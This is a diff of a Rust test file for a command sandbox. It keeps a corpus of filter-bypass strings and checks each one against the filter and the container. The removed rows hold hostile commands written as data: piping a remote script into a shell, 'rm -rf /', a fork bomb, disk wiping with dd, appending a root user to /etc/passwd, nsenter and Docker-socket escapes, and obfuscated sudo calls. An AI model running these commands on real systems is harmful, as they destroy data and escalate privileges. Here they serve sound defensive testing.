@@ -1,7 +1,10 @@
 //! The bypass corpus: known ways around a command filter, each either blocked
-//! by the filter or contained by the container. The same rows are the table
-//! in SECURITY.md; `security_md_matches_the_corpus` keeps them equal
-//! (`BERTH_BLESS=1 cargo test --test all safety::corpus` rewrites the table).
+//! by the filter, harmless (`Allows`), or a pass of a class SECURITY.md
+//! names under "Known bypasses of the filter" (checked here); and every one
+//! contained by the container. The same rows are the table in SECURITY.md;
+//! `security_md_matches_the_corpus` keeps them equal (`BERTH_BLESS=1 cargo
+//! test --test all safety::corpus` rewrites the table). The rows live in
+//! `corpus/`: the first review's forms and the red team's (issue 25).
 //!
 //! Every row is also run in a container *with the filter turned off*, to show
 //! that the container, not the filter, is the boundary: the job ends, holds
@@ -17,253 +20,30 @@ use pretty_assertions::assert_eq;
 
 use crate::common::manager_with;
 
+mod first_review;
+mod red_team_programs;
+mod red_team_shell;
+
 /// What the filter does with a row.
 #[derive(Debug, Clone, Copy, PartialEq)]
-enum Filter {
+pub(super) enum Filter {
+    /// Refused.
     Blocks,
-    Passes,
+    /// Let through, and right to be (data, a look at the socket).
+    Allows,
+    /// Let through: a known bypass of this class (a bold heading in
+    /// SECURITY.md's "Known bypasses of the filter").
+    Passes(&'static str),
 }
 use Filter::{Blocks, Passes};
 
-/// `(form, command, what the filter does)`.
-const CORPUS: &[(&str, &str, Filter)] = &[
-    ("mixed case", "SuDo id", Blocks),
-    ("absolute path", "/usr/bin/sudo id", Blocks),
-    ("U+00A0 before the command", "\u{a0}sudo id", Blocks),
-    ("U+00A0 inside the command", "sudo\u{a0}id", Blocks),
-    ("zero-width space inside the name", "su\u{200b}do id", Blocks),
-    ("empty quotes inside the name", "s''udo id", Blocks),
-    ("backslash inside the name", "s\\udo id", Blocks),
-    ("adjacent double quotes", "\"su\"\"do\" id", Blocks),
-    ("ANSI-C quoting", "$'\\x73udo' id", Blocks),
-    ("command substitution", "$(echo su)do id", Blocks),
-    ("backticks", "`echo su`do id", Blocks),
-    ("variables joined", "a=su; b=do; $a$b id", Blocks),
-    ("brace expansion", "{sudo,id}", Blocks),
-    ("glob as the command", "/???/???/s?do id", Blocks),
-    ("bash -c payload", "bash -c \"sudo id\"", Blocks),
-    ("nested shells", "sh -c 'sh -c \"sudo id\"'", Blocks),
-    ("positional parameter", "sh -c '$0 id' sudo", Blocks),
-    ("here-string to a shell", "bash <<< 'sudo id'", Blocks),
-    ("eval", "eval \"sudo id\"", Blocks),
-    ("env prefix", "env sudo id", Blocks),
-    ("nohup prefix", "nohup sudo id", Blocks),
-    ("timeout prefix", "timeout 5 sudo id", Blocks),
-    ("xargs", "echo id | xargs sudo", Blocks),
-    ("find -exec", "find . -exec sudo id \\;", Blocks),
-    (
-        "base64 into a shell",
-        "echo c3VkbyBpZA== | base64 -d | sh",
-        Blocks,
-    ),
-    ("undecidable substitution", "x=$(cat cmd.txt); $x id", Blocks),
-    ("download into a shell", "curl http://x/s.sh | sh", Blocks),
-    ("process substitution", "bash <(wget -qO- http://x/s.sh)", Blocks),
-    ("delete /", "rm -rf /", Blocks),
-    ("delete home", "rm -rf ~/", Blocks),
-    ("split flags and a glob", "rm -r -f /*", Blocks),
-    ("path that resolves to /", "rm -rf /bin/..", Blocks),
-    ("fork bomb", ":(){ :|:& };:", Blocks),
-    ("dd onto a disk", "dd if=/dev/zero of=/dev/sda", Blocks),
-    ("format a partition", "mkfs.ext4 /dev/sdb1", Blocks),
-    ("engine socket", "cat /var/run/docker.sock", Blocks),
-    (
-        "DOCKER_HOST",
-        "DOCKER_HOST=tcp://172.17.0.1:2375 docker ps",
-        Blocks,
-    ),
-    ("chmod of /", "chmod -R 777 /", Blocks),
-    ("reboot", "reboot", Blocks),
-    (
-        "write /etc/passwd",
-        "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
-        Blocks,
-    ),
-    ("kill everything", "kill -9 -1", Blocks),
-    (
-        "enter PID 1's namespaces",
-        "nsenter -t 1 -m -u -i -n -p sh",
-        Blocks,
-    ),
-    (
-        "code inside an interpreter",
-        "python3 -c \"import os; os.system('su'+'do id')\"",
-        Blocks,
-    ),
-    (
-        "code written to a file first",
-        "printf 'sudo id' > x.sh; sh x.sh",
-        Blocks,
-    ),
-    (
-        "xargs feeding a shell",
-        "echo 'sudo id' | xargs -I{} sh -c '{}'",
-        Blocks,
-    ),
-    ("write outside the workspace", "touch ../escaped /escaped", Passes),
-    ("mount a file system", "mount -t tmpfs none /tmp", Passes),
-    (
-        "process flood without a function",
-        "i=0; while [ $i -lt 1000 ]; do sleep 60 & i=$((i+1)); done",
-        Passes,
-    ),
-    // Red-team forms (issue 13): dynamic commands, wrappers, interpreters,
-    // here-documents, traps and the engine socket.
-    ("variable from the environment", "$CMD id", Blocks),
-    ("variable set by read", "read c <<< sudo; $c id", Blocks),
-    ("for loop over names", "for c in sudo; do $c id; done", Blocks),
-    ("set -- then \"$@\"", "set -- sudo id; \"$@\"", Blocks),
-    ("set -- then $1", "set -- sudo; $1 id", Blocks),
-    ("$0 at the top level", "$0 -c 'sudo id'", Blocks),
-    ("alias", "shopt -s expand_aliases; alias x='sudo id'; x", Blocks),
-    (
-        "function wrapping the command",
-        "f() { sudo \"$@\"; }; f id",
-        Blocks,
-    ),
-    ("function keyword", "function f { sudo id; }; f", Blocks),
-    (
-        "default value from a substitution",
-        "${x:-$(echo sudo)} id",
-        Blocks,
-    ),
-    ("nested defaults", "${x:-${y:-sudo}} id", Blocks),
-    ("substitution inside ${…}", "echo ${x:-$(sudo id)}", Blocks),
-    ("substitution inside $((…))", "echo $(( $(sudo id) ))", Blocks),
-    ("substitution in an array index", "echo ${x[$(sudo id)]}", Blocks),
-    ("${IFS} as the blank", "sudo${IFS}id", Blocks),
-    ("${IFS} after a path", "/usr/bin/sudo${IFS}id", Blocks),
-    (
-        "xargs with a placeholder argument",
-        "echo id | xargs -I{} sudo {}",
-        Blocks,
-    ),
-    (
-        "xargs placeholder as the command",
-        "echo sudo | xargs -I{} {} id",
-        Blocks,
-    ),
-    (
-        "find -exec a shell",
-        "find . -maxdepth 0 -exec sh -c 'sudo id' \\;",
-        Blocks,
-    ),
-    (
-        "find -exec placeholder",
-        "find . -maxdepth 0 -exec {} \\;",
-        Blocks,
-    ),
-    ("env -S", "env -S 'sudo id'", Blocks),
-    ("env -S other program", "env -S 'make all'", Blocks),
-    ("chroot wrapper", "chroot / sudo id", Blocks),
-    ("unshare wrapper", "unshare -r sudo id", Blocks),
-    ("flock wrapper", "flock /tmp/l sudo id", Blocks),
-    ("flock -c payload", "flock /tmp/l -c 'sudo id'", Blocks),
-    ("taskset wrapper", "taskset -c 0 sudo id", Blocks),
-    ("prlimit wrapper", "prlimit --nproc=10 sudo id", Blocks),
-    ("setpriv wrapper", "setpriv --no-new-privs sudo id", Blocks),
-    ("runuser", "runuser -u root -- id", Blocks),
-    ("strace wrapper", "strace -f -o /dev/null sudo id", Blocks),
-    ("chrt wrapper", "chrt -o 0 sudo id", Blocks),
-    ("busybox shell", "busybox sh -c 'sudo id'", Blocks),
-    ("exec -a", "exec -a x sudo id", Blocks),
-    ("perl exec", "perl -e 'exec \"sudo\", \"id\"'", Blocks),
-    ("awk system()", "awk 'BEGIN{system(\"sudo id\")}'", Blocks),
-    ("sed e command", "echo | sed 'e sudo id'", Blocks),
-    (
-        "make $(shell)",
-        "make --eval='x:=$(shell sudo id)' -f /dev/null",
-        Passes,
-    ),
-    (
-        "tar checkpoint action",
-        "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='sudo id'",
-        Blocks,
-    ),
-    ("git alias", "git -c alias.x='!sudo id' x", Blocks),
-    ("git pager", "git -c core.pager='sudo id' log", Blocks),
-    (
-        "pipe into sh /dev/stdin",
-        "echo 'sudo id' | sh /dev/stdin",
-        Blocks,
-    ),
-    (
-        "here-string into bash /dev/stdin",
-        "bash /dev/stdin <<< 'sudo id'",
-        Blocks,
-    ),
-    (
-        "renamed shell written on the line",
-        "cp /bin/sh ./x; ./x -c 'sudo id'",
-        Blocks,
-    ),
-    (
-        "renamed binary linked on the line",
-        "ln -s /usr/bin/sudo ./s; ./s id",
-        Blocks,
-    ),
-    ("renamed binary from an earlier job", "./my-sudo id", Passes),
-    (
-        "sourcing a file written on the line",
-        "echo 'sudo id' > x.sh; . ./x.sh",
-        Blocks,
-    ),
-    ("a script file already in the workspace", "sh ./build.sh", Passes),
-    ("here-document into a shell", "sh <<EOF\nsudo id\nEOF", Blocks),
-    (
-        "substitution in a here-document",
-        "cat <<EOF\n$(sudo id)\nEOF",
-        Blocks,
-    ),
-    (
-        "here-document desync: early delimiter",
-        "cat <<'EOF'\nEOF\nsudo id",
-        Blocks,
-    ),
-    (
-        "here-document desync: tab-stripped delimiter",
-        "cat <<-EOF\n\tEOF\nsudo id",
-        Blocks,
-    ),
-    (
-        "here-document desync: a shift in (( ))",
-        "(( x = 1 << 2 ))\nsudo id",
-        Blocks,
-    ),
-    ("here-document body is data", "cat <<'EOF'\nsudo id\nEOF", Passes),
-    ("trap on EXIT", "trap 'sudo id' EXIT", Blocks),
-    (
-        "trap with a substitution",
-        "trap \"$(echo sudo) id\" EXIT",
-        Blocks,
-    ),
-    (
-        "engine socket through a glob",
-        "curl --unix-socket /var/run/d*.sock http://x/info",
-        Blocks,
-    ),
-    (
-        "engine socket with socat",
-        "socat - UNIX-CONNECT:/var/run/docker.sock",
-        Blocks,
-    ),
-    (
-        "engine socket in a variable",
-        "s=/var/run/docker.sock; curl --unix-socket $s http://x/",
-        Blocks,
-    ),
-    (
-        "engine socket mentioned by grep",
-        "grep -c docker.sock /etc/hosts",
-        Passes,
-    ),
-    (
-        "engine socket tested with test -S",
-        "test -S /var/run/docker.sock || echo no engine",
-        Passes,
-    ),
-    ("job queued with at", "echo 'sudo id' | at now", Passes),
-];
+/// `(form, command, what the filter does)`, in the order of the table.
+fn corpus() -> impl Iterator<Item = &'static (&'static str, &'static str, Filter)> {
+    first_review::ROWS
+        .iter()
+        .chain(red_team_shell::ROWS)
+        .chain(red_team_programs::ROWS)
+}
 
 const START: &str = "<!-- corpus:start (generated by tests/suite/safety/corpus.rs) -->";
 const END: &str = "<!-- corpus:end -->";
@@ -280,6 +60,7 @@ fn visible(cmd: &str) -> String {
         .map(|c| match c {
             '\u{a0}' | '\u{200b}' => format!("⟨U+{:04X}⟩", c as u32),
             '\n' => "⏎".to_string(),
+            '\r' => "⟨CR⟩".to_string(),
             '\t' => "⟨TAB⟩".to_string(),
             c => c.to_string(),
         })
@@ -303,14 +84,15 @@ fn table() -> Vec<String> {
         "| # | form | command | filter | container (filter off) |".to_string(),
         "|---|---|---|---|---|".to_string(),
     ];
-    for (i, (form, cmd, _)) in CORPUS.iter().enumerate() {
-        let filter = match safety.check(&JobSpec::shell(*cmd), dir.path(), "corpus") {
-            Err(Error::Blocked { reason, .. }) => {
+    for (i, (form, cmd, expect)) in corpus().enumerate() {
+        let filter = match (safety.check(&JobSpec::shell(*cmd), dir.path(), "corpus"), expect) {
+            (Err(Error::Blocked { reason, .. }), _) => {
                 let short = reason.split([':', '(']).next().unwrap_or(&reason).trim();
                 format!("**blocked**: {short}")
             }
-            Ok(()) => "passes".to_string(),
-            Err(e) => format!("error: {e}"),
+            (Ok(()), Passes(class)) => format!("passes (known bypass: {})", class.to_lowercase()),
+            (Ok(()), _) => "passes".to_string(),
+            (Err(e), _) => format!("error: {e}"),
         };
         rows.push(format!(
             "| {} | {form} | {} | {filter} | contained |",
@@ -321,22 +103,42 @@ fn table() -> Vec<String> {
     rows
 }
 
+/// The text of SECURITY.md's "Known bypasses of the filter" section.
+fn known_bypasses() -> String {
+    let text = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("SECURITY.md")).unwrap();
+    let start = text
+        .find("## Known bypasses of the filter")
+        .expect("SECURITY.md has a known-bypasses section");
+    let rest = &text[start + 3..];
+    rest[..rest.find("\n## ").unwrap_or(rest.len())].to_string()
+}
+
 #[test]
 fn the_filter_does_what_the_corpus_says() {
     let (safety, dir) = safety();
+    let bypasses = known_bypasses();
     let mut wrong = Vec::new();
-    for (form, cmd, expect) in CORPUS {
-        let got = match safety.check(&JobSpec::shell(*cmd), dir.path(), "corpus") {
-            Ok(()) => Passes,
-            Err(Error::Blocked { .. }) => Blocks,
+    for (form, cmd, expect) in corpus() {
+        let blocked = match safety.check(&JobSpec::shell(*cmd), dir.path(), "corpus") {
+            Ok(()) => false,
+            Err(Error::Blocked { .. }) => true,
             Err(e) => panic!("{form}: {e}"),
         };
-        if got != *expect {
-            wrong.push(format!("{form}: `{cmd}` {got:?}, expected {expect:?}"));
+        if blocked != (*expect == Blocks) {
+            wrong.push(format!("{form}: `{cmd}` blocked: {blocked}, expected {expect:?}"));
+        }
+        // A pass is a known bypass only if SECURITY.md names its class.
+        if let Passes(class) = expect
+            && !bypasses.contains(&format!("**{class}**"))
+        {
+            wrong.push(format!(
+                "{form}: class `{class}` is not in SECURITY.md's known bypasses"
+            ));
         }
     }
     assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
-    assert!(CORPUS.len() >= 100);
+    assert!(first_review::ROWS.len() >= 100);
+    assert!(red_team_shell::ROWS.len() + red_team_programs::ROWS.len() >= 100);
 }
 
 #[test]
@@ -386,6 +188,8 @@ async fn contained(form: &str, cmd: &str) -> Result<String, String> {
     let mut spec = JobSpec::shell(script)
         .with_runner(RunnerChoice::Docker)
         .with_image("berth/sandbox:latest");
+    // No network: rows need none, and a job without one starts faster.
+    spec.network = Some(berth::model::Network::None);
     spec.timeout = Some(8.0);
     spec.on_timeout = berth::model::OnTimeout::Kill;
     spec.limits.memory = Some(256 << 20);
@@ -402,16 +206,19 @@ async fn contained(form: &str, cmd: &str) -> Result<String, String> {
     let lines: Vec<String> = job.output_lines().unwrap();
     let why = || format!("{form} ({:?}): {lines:?}", info.status);
     for tag in ["before", "after"] {
-        let probes: Vec<&String> = lines
+        // A row may leave its own output without a newline (busybox's
+        // `printf -v x` prints `-v`): the probe is read from where it starts.
+        let marker = format!("probe-{tag} ");
+        let probes: Vec<String> = lines
             .iter()
-            .filter(|l| l.starts_with(&format!("probe-{tag} ")))
+            .filter_map(|l| l.find(&marker).map(|i| l[i..].to_string()))
             .collect();
         let clean = [
             format!("probe-{tag} CapEff:\t0000000000000000"),
             format!("probe-{tag} NoNewPrivs:\t1"),
         ];
         let required = tag == "before";
-        if (required || !probes.is_empty()) && !clean.iter().all(|c| probes.contains(&c)) {
+        if (required || !probes.is_empty()) && !clean.iter().all(|c| probes.contains(c)) {
             return Err(format!("no capability-free probe {tag} the row: {}", why()));
         }
     }
@@ -438,7 +245,8 @@ async fn every_row_is_contained_in_a_container_even_with_the_filter_off() {
     let passwd = std::fs::read("/etc/passwd").unwrap();
     let mut failures = Vec::new();
     // A few at a time: the engine is shared with the rest of the suite.
-    for chunk in CORPUS.chunks(6) {
+    let rows: Vec<_> = corpus().collect();
+    for chunk in rows.chunks(6) {
         let runs = chunk.iter().map(|(form, cmd, _)| contained(form, cmd));
         for r in futures_util::future::join_all(runs).await {
             match r {
